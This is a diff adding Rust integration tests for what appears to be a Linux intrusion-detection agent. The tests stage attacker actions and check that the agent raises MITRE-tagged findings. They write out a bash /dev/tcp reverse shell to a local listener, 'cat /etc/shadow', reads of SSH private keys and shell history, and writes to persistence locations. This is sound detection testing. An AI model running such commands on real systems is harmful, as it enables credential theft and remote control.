@@ -393,8 +393,8 @@ fn reverse_shell_over_a_socket() {
     let since = now_ms();
     // A listener in the namespace sends `exit` to whatever shell connects.
     let out = in_own_netns(
-        "python3 -c 'import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((\"127.0.0.1\", 4444)); s.listen(); c,_=s.accept(); c.sendall(b\"exit\\n\"); c.recv(100)' & \
-         sleep 0.5; bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'; wait",
+        "python3 -c 'import socket; s=socket.socket(); s.settimeout(60); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((\"127.0.0.1\", 4444)); s.listen(); c,_=s.accept(); c.sendall(b\"exit\\n\"); c.recv(100)' & \
+         for i in $(seq 300); do bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' 2>/dev/null && break; sleep 0.1; done; wait",
     );
     assert!(out.status.success(), "{out:?}");
     let f = agent.expect("reverse-shell", "T1059.004", since, Instant::now(), |_| {
@@ -824,8 +824,8 @@ fn interpreter_listening_and_shell_connecting() {
     let agent = Agent::start(None);
     let since = now_ms();
     let out = in_own_netns(
-        "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\", 8081)); s.listen(); c,_=s.accept(); c.recv(10)' & \
-         sleep 0.5; bash -c 'echo hi > /dev/tcp/127.0.0.1/8081'; wait",
+        "python3 -c 'import socket; s=socket.socket(); s.settimeout(60); s.bind((\"127.0.0.1\", 8081)); s.listen(); c,_=s.accept(); c.recv(10)' & \
+         for i in $(seq 300); do bash -c 'echo hi > /dev/tcp/127.0.0.1/8081' 2>/dev/null && break; sleep 0.1; done; wait",
     );
     assert!(out.status.success(), "{out:?}");
     let f = agent.expect(
@@ -1190,4 +1190,315 @@ fn findings_reach_the_collector() {
         );
         std::thread::sleep(Duration::from_millis(300));
     }
+}
+
+/// The findings of `rule` since `since` raised by process `pid`.
+fn findings_of(agent: &Agent, rule: &str, since: i64, pid: u32) -> Vec<Finding> {
+    agent
+        .findings(since)
+        .into_iter()
+        .filter(|f| f.rule == rule && pid_of(f) == pid)
+        .collect()
+}
+
+/// Runs `command` (exec'd by `sh -c`, so it keeps the pid) and returns its pid once it
+/// has finished.
+fn sh(command: &str) -> u32 {
+    let child = Command::new("sh")
+        .args(["-c", &format!("exec {command}")])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    let pid = child.id();
+    let _ = child.wait_with_output().unwrap();
+    pid
+}
+
+#[test]
+fn credential_files_read_by_anything_but_the_account_tools() {
+    root!("credential_files_read_by_anything_but_the_account_tools");
+    let agent = Agent::start(None);
+    // Reading the real /etc/shadow changes nothing; it is what an attacker does.
+    let since = now_ms();
+    let pid = sh("cat /etc/shadow");
+    let f = agent.expect(
+        "credential-file-read",
+        "T1003.008",
+        since,
+        Instant::now(),
+        |f| pid_of(f) == pid,
+    );
+    assert_eq!(f.details["path"], "/etc/shadow");
+    assert_eq!(f.details["operation"], "open_for_read");
+    assert_eq!(f.process.unwrap().name, "cat");
+    // The nearest benign acts: the account tools reading it, and anything reading
+    // /etc/passwd (world-readable, not watched).
+    let since = now_ms();
+    let chage = Command::new("chage")
+        .args(["-l", "root"])
+        .stdout(Stdio::null())
+        .spawn()
+        .unwrap();
+    let chage_pid = chage.id();
+    assert!(chage.wait_with_output().unwrap().status.success());
+    let passwd = sh("cat /etc/passwd");
+    agent.settle();
+    assert!(findings_of(&agent, "credential-file-read", since, chage_pid).is_empty());
+    assert!(findings_of(&agent, "credential-file-read", since, passwd).is_empty());
+    // The read-watched file is followed when it is replaced (a new inode), as the
+    // account tools do: here a scratch copy named by a test rule, never the real one.
+    let scratch =
+        dir_on_device_of("/etc").join(format!("vigil-test-gshadow-{}", std::process::id()));
+    let scratch = RemoveOnDrop(scratch);
+    fs::write(&scratch.0, "root:*::\n").unwrap();
+    let path = scratch.0.to_str().unwrap().to_string();
+    drop(agent);
+    let agent = Agent::start(Some(&format!(
+        "rules:\n  - id: test-credential-read\n    description: the test's scratch file was read\n    severity: high\n    mitre: [T1003.008]\n    events: [file_read]\n    condition:\n      path: {path}\n    dedup: 0s\n  - id: test-credential-write\n    description: the test's scratch file was written\n    severity: low\n    mitre: [T1098]\n    events: [file_write]\n    condition:\n      path: {path}\n    dedup: 0s\n"
+    )));
+    let staged = format!("{path}.new");
+    fs::write(&staged, "root:!::\n").unwrap();
+    let since = now_ms();
+    assert!(run(Command::new("mv").arg(&staged).arg(&path))
+        .status
+        .success());
+    agent.expect(
+        "test-credential-write",
+        "T1098",
+        since,
+        Instant::now(),
+        |f| f.details.get("path") == Some(&path),
+    );
+    agent.settle();
+    let since = now_ms();
+    let pid = sh(&format!("cat {path}"));
+    agent.expect(
+        "test-credential-read",
+        "T1003.008",
+        since,
+        Instant::now(),
+        |f| pid_of(f) == pid,
+    );
+}
+
+#[test]
+fn ssh_private_keys_and_shell_history_read_by_other_programs() {
+    root!("ssh_private_keys_and_shell_history_read_by_other_programs");
+    let me = std::process::id();
+    // Made before the agent starts (a directory made later is picked up at the next
+    // rescan: see the README).
+    let made_ssh = !Path::new("/root/.ssh").exists();
+    fs::create_dir_all("/root/.ssh").unwrap();
+    fs::set_permissions("/root/.ssh", fs::Permissions::from_mode(0o700)).unwrap();
+    let key = RemoveOnDrop(PathBuf::from(format!("/root/.ssh/id_vigil_test_{me}")));
+    let public = RemoveOnDrop(PathBuf::from(format!("/root/.ssh/id_vigil_test_{me}.pub")));
+    let out = run(Command::new("ssh-keygen")
+        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
+        .arg(&key.0));
+    assert!(out.status.success(), "{out:?}");
+    let history = PathBuf::from("/root/.bash_history");
+    let made_history = !history.exists();
+    if made_history {
+        fs::write(&history, "echo hello\n").unwrap();
+    }
+    let agent = Agent::start(None);
+    let key_path = key.0.to_str().unwrap().to_string();
+    let since = now_ms();
+    let pid = sh(&format!("cat {key_path}"));
+    let f = agent.expect(
+        "ssh-private-key-read",
+        "T1552.004",
+        since,
+        Instant::now(),
+        |f| pid_of(f) == pid,
+    );
+    assert_eq!(f.details["path"], key_path);
+    // The SSH tools reading it, and anyone reading the public half: nothing.
+    let since = now_ms();
+    let keygen = Command::new("ssh-keygen")
+        .args(["-y", "-f", &key_path])
+        .stdout(Stdio::null())
+        .spawn()
+        .unwrap();
+    let keygen_pid = keygen.id();
+    assert!(keygen.wait_with_output().unwrap().status.success());
+    let pub_pid = sh(&format!("cat {}", public.0.display()));
+    // History: another program reading it is told; bash reading its own is not.
+    let hist_pid = sh("grep -c . /root/.bash_history");
+    let f = agent.expect(
+        "shell-history-read",
+        "T1552.003",
+        since,
+        Instant::now(),
+        |f| pid_of(f) == hist_pid,
+    );
+    assert_eq!(f.details["path"], "/root/.bash_history");
+    let bash = Command::new("bash")
+        .args(["-c", "HISTFILE=/root/.bash_history; history -r; true"])
+        .spawn()
+        .unwrap();
+    let bash_pid = bash.id();
+    assert!(bash.wait_with_output().unwrap().status.success());
+    agent.settle();
+    assert!(findings_of(&agent, "ssh-private-key-read", since, keygen_pid).is_empty());
+    assert!(findings_of(&agent, "ssh-private-key-read", since, pub_pid).is_empty());
+    assert!(findings_of(&agent, "shell-history-read", since, bash_pid).is_empty());
+    drop(agent);
+    drop(key);
+    drop(public);
+    if made_history {
+        let _ = fs::remove_file(&history);
+    }
+    if made_ssh {
+        let _ = fs::remove_dir("/root/.ssh");
+    }
+}
+
+#[test]
+fn persistence_in_shell_start_up_boot_scripts_pam_trusted_cas_and_python_hooks() {
+    root!("persistence_in_shell_start_up_boot_scripts_pam_trusted_cas_and_python_hooks");
+    let me = std::process::id();
+    let python = [
+        "/usr/local/lib/python3.11/dist-packages",
+        "/usr/lib/python3/dist-packages",
+    ]
+    .into_iter()
+    .find(|d| Path::new(d).is_dir())
+    .expect("a Python dist-packages directory");
+    let cases = [
+        (
+            format!("/etc/profile.d/vigil-test-{me}.sh"),
+            "persistence-shell-startup",
+            "T1546.004",
+        ),
+        (
+            "/root/.bashrc".to_string(),
+            "persistence-shell-startup",
+            "T1546.004",
+        ),
+        (
+            format!("/etc/init.d/vigil-test-{me}"),
+            "persistence-boot-script",
+            "T1037.004",
+        ),
+        (
+            format!("/etc/pam.d/vigil-test-{me}"),
+            "pam-tampering",
+            "T1556.003",
+        ),
+        (
+            format!("/usr/local/share/ca-certificates/vigil-test-{me}.crt"),
+            "trusted-ca-added",
+            "T1553.004",
+        ),
+        (
+            format!("{python}/vigil-test-{me}.pth"),
+            "python-startup-hook",
+            "T1546.018",
+        ),
+    ];
+    for (path, _, _) in &cases {
+        let dir = Path::new(path).parent().unwrap();
+        assert!(dir.is_dir(), "{} must exist on this host", dir.display());
+    }
+    let agent = Agent::start(None);
+    for (path, rule, mitre) in &cases {
+        // Opened for appending and closed unchanged (made and removed if it wasn't there).
+        let since = now_ms();
+        let pid = touch_for_write(path);
+        let f = agent.expect(rule, mitre, since, Instant::now(), |f| pid_of(f) == pid);
+        assert_eq!(&f.details["path"], path);
+        // The nearest benign act: reading it.
+        if Path::new(path).exists() {
+            let since = now_ms();
+            let pid = sh(&format!("cat {path}"));
+            agent.settle();
+            assert!(findings_of(&agent, rule, since, pid).is_empty(), "{path}");
+        }
+    }
+    // A file next to them but of no consequence: nothing.
+    let since = now_ms();
+    let pid = touch_for_write(&format!("/etc/vigil-test-elsewhere-{me}"));
+    agent.settle();
+    for (_, rule, _) in &cases {
+        assert!(findings_of(&agent, rule, since, pid).is_empty());
+    }
+}
+
+/// A real Debian package with a maintainer script that writes where the persistence
+/// rules look (a profile.d script, an init script, a .pth file, a CA), installed and
+/// purged with dpkg: nothing is raised (the rules leave packages alone).
+#[test]
+fn a_package_installed_and_purged_with_dpkg_raises_nothing() {
+    root!("a_package_installed_and_purged_with_dpkg_raises_nothing");
+    let me = std::process::id();
+    let name = format!("vigil-test-benign-{me}");
+    let work = tempfile::tempdir().unwrap();
+    let root = work.path().join("pkg");
+    for d in [
+        "DEBIAN",
+        "etc/profile.d",
+        "etc/init.d",
+        "usr/local/share/ca-certificates",
+    ] {
+        fs::create_dir_all(root.join(d)).unwrap();
+    }
+    fs::write(
+        root.join("DEBIAN/control"),
+        format!("Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: Vigil tests <tests@vigil.invalid>\nDescription: a package Vigil's detection tests install\n"),
+    )
+    .unwrap();
+    let postinst = format!(
+        "#!/bin/sh\nset -e\necho '# made by postinst' > /etc/profile.d/{name}-postinst.sh\n"
+    );
+    let postrm = format!("#!/bin/sh\nset -e\nrm -f /etc/profile.d/{name}-postinst.sh\n");
+    for (f, text) in [("postinst", postinst), ("postrm", postrm)] {
+        fs::write(root.join("DEBIAN").join(f), text).unwrap();
+        fs::set_permissions(
+            root.join("DEBIAN").join(f),
+            fs::Permissions::from_mode(0o755),
+        )
+        .unwrap();
+    }
+    fs::write(root.join(format!("etc/profile.d/{name}.sh")), "# shipped\n").unwrap();
+    fs::write(root.join(format!("etc/init.d/{name}")), "#!/bin/sh\n").unwrap();
+    fs::write(
+        root.join(format!("usr/local/share/ca-certificates/{name}.crt")),
+        "not a certificate\n",
+    )
+    .unwrap();
+    let deb = work.path().join(format!("{name}.deb"));
+    let out = run(Command::new("dpkg-deb")
+        .args(["--root-owner-group", "--build"])
+        .arg(&root)
+        .arg(&deb));
+    assert!(out.status.success(), "{out:?}");
+    let agent = Agent::start(None);
+    let since = now_ms();
+    let out = run(Command::new("dpkg").arg("-i").arg(&deb));
+    assert!(out.status.success(), "{out:?}");
+    assert!(Path::new(&format!("/etc/profile.d/{name}-postinst.sh")).exists());
+    let out = run(Command::new("dpkg").args(["--purge", &name]));
+    assert!(out.status.success(), "{out:?}");
+    agent.settle();
+    let raised: Vec<_> = agent
+        .findings(since)
+        .into_iter()
+        .filter(|f| f.details.get("path").is_some_and(|p| p.contains(&name)))
+        .collect();
+    assert!(
+        raised.is_empty(),
+        "dpkg's work raised findings: {raised:#?}"
+    );
+    // The rules did see it: the same write without dpkg is a finding.
+    let since = now_ms();
+    let pid = touch_for_write(&format!("/etc/profile.d/{name}.sh"));
+    agent.expect(
+        "persistence-shell-startup",
+        "T1546.004",
+        since,
+        Instant::now(),
+        |f| pid_of(f) == pid,
+    );
 }
